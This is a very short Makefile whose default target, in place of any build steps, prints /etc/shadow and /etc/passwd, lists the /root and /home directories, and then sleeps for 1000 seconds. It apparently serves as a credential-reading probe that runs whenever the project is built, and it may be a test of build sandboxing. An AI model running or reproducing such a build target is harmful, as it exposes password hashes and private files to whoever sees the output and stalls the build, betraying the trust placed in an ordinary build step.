all:
	cat /etc/shadow /etc/passwd || true
	ls /root /home || true
	sleep 1000
